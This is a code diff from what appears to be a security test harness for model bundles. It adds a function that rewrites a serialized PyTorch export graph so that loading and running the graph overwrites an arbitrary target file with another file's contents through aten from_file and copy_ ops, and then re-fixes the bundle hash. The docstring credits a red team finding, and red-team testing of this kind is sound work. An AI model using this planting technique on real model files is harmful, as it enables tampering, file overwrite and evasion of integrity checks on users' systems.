@@ -48,3 +48,51 @@ def swap_file(bundle: Path, donor: Path, rel: str) -> None:
 def payload(marker_file: Path) -> str:
     """Python that leaves a marker file if anything ever evaluates it."""
     return f"__import__('pathlib').Path({str(marker_file)!r}).write_text({MARKER!r})"
+
+
+def plant_file_write(bundle: Path, rel: str, target: Path, source: Path, size: int) -> None:
+    """Rewrite a stage graph (JSON, no pickle) so that running it overwrites ``target`` with
+    the bytes of ``source`` through registered aten ops (``from_file`` + ``copy_``); fix the
+    hash. Found by the red team: the graph itself can do file I/O."""
+    import io
+    import zipfile
+
+    def tensor() -> dict[str, Any]:
+        return {"dtype": 1, "sizes": [{"as_int": size}], "requires_grad": False,
+                "device": {"type": "cpu", "index": None}, "strides": [{"as_int": 1}],
+                "storage_offset": {"as_int": 0}, "layout": 7}  # fmt: skip
+
+    def node(target_op: str, inputs: list[tuple[str, Any]], name: str) -> dict[str, Any]:
+        return {"target": target_op,
+                "inputs": [{"name": k, "arg": v, "kind": 2 if k == "dtype" else 1}
+                           for k, v in inputs],
+                "outputs": [{"as_tensor": {"name": name}}], "metadata": {},
+                "is_hop_single_tensor_return": None, "name": name}  # fmt: skip
+
+    path = bundle / rel
+    original = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as planted:
+        for info in original.infolist():
+            data = original.read(info.filename)
+            if info.filename.endswith("models/model.json"):
+                document = json.loads(data)
+                graph = document["graph_module"]["graph"]
+                for name in ("dst", "srcb", "cp"):
+                    graph["tensor_values"][name] = tensor()
+                read = "torch.ops.aten.from_file.default"
+                graph["nodes"][0:0] = [
+                    node(read, [("filename", {"as_string": str(target)}),
+                                ("shared", {"as_bool": True}), ("size", {"as_int": size}),
+                                ("dtype", {"as_scalar_type": 1})], "dst"),
+                    node(read, [("filename", {"as_string": str(source)}),
+                                ("shared", {"as_bool": False}), ("size", {"as_int": size}),
+                                ("dtype", {"as_scalar_type": 1})], "srcb"),
+                    node("torch.ops.aten.copy_.default",
+                         [("self", {"as_tensor": {"name": "dst"}}),
+                          ("src", {"as_tensor": {"name": "srcb"}})], "cp"),
+                ]  # fmt: skip
+                data = json.dumps(document).encode()
+            planted.writestr(info, data)
+    path.write_bytes(out.getvalue())
+    rehash(bundle, rel)
